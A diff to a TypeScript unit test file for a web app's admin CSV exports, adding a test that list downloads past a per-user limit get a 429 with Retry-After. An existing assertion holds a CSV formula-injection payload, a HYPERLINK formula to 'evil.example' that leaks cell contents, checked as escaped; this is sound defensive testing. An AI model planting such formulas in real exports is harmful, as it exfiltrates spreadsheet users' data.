@@ -4,6 +4,8 @@ import { server } from "../../mocks/node";
 import { db } from "../../mocks/store";
 import { cookieFor, settle } from "../../tests/unit/route-helpers";
 import { createRequestContext } from "~/context";
+import { env, setEnvForTests } from "~/env.server";
+import { resetRateLimits } from "~/security/rate-limit.server";
 import { action as reportAction } from "./admin.reports.$report";
 import { loader as ordersCsvLoader } from "./orders.csv";
 import { loader as ordersExportLoader } from "./exports.spares-and-services.$format";
@@ -64,5 +66,29 @@ describe("admin report CSV", () => {
     expect(lines[0]).toBe("template,subject,lastSentAt");
     expect(lines[1]).toMatch(new RegExp(`^Welcome,"'=HYPERLINK\\(""https://evil\\.example/\\?""&A1,""Open""\\)",`));
     expect(lines[2]).toMatch(/^'-2\+3,Your ticket has been updated,/);
+  });
+});
+
+describe("list downloads' limit", () => {
+  afterEach(() => {
+    setEnvForTests(undefined);
+    resetRateLimits();
+  });
+
+  it("past LIST_EXPORTS_PER_USER a user gets 429 with Retry-After; an unknown format is a 404 and not counted", async () => {
+    resetRateLimits();
+    setEnvForTests({ ...env(), LIST_EXPORTS_PER_USER: 1 });
+    const get = async (format: string) => {
+      const request = new Request(`${ORIGIN}/exports/spares-and-services/${format}`, { headers: { cookie: await cookieFor("customer@demo.test") } });
+      return settle(() => ordersExportLoader({ request, context: context(), params: { format } }));
+    };
+    expect((await get("pdf")).status).toBe(404);
+    const first = await get("xlsx");
+    expect(first.status).toBe(200);
+    await first.response!.arrayBuffer();
+    const refused = await get("csv");
+    expect(refused.status).toBe(429);
+    expect(Number(refused.response!.headers.get("retry-after"))).toBeGreaterThan(0);
+    expect(await refused.response!.text()).toContain("You have downloaded many lists in a short time.");
   });
 });
